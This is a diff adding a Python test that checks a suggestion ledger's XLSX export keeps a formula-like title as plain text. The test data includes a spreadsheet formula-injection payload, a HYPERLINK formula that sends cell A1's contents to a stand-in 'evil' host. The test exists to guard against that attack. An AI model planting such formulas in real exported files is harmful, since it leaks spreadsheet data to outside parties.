@@ -106,3 +106,20 @@ def test_the_ledger_exports_to_xlsx(client, lin, month_of_work):
     assert rows[0][:3] == ("编号", "标题", "来源")
     assert len(rows) == 2 and rows[1][1] == "老旧小区加装电梯补贴" and rows[1][10] == "满意"
     assert rows[1][6] == "市城市管理和综合执法局"
+
+
+def test_a_title_that_looks_like_a_formula_stays_text_in_the_export(client, lin, wang):
+    suggestion_create(
+        title='=HYPERLINK("http://evil/?"&A1,"点击")',
+        content="内容",
+        lead_deputy=wang.deputy,
+        actor=wang,
+        source="deputy",
+    )
+    client.force_login(lin)
+
+    response = client.get("/work/suggestions/ledger/export.xlsx")
+
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cell = sheet.cell(row=2, column=2)
+    assert cell.value == '=HYPERLINK("http://evil/?"&A1,"点击")' and cell.data_type == "s"
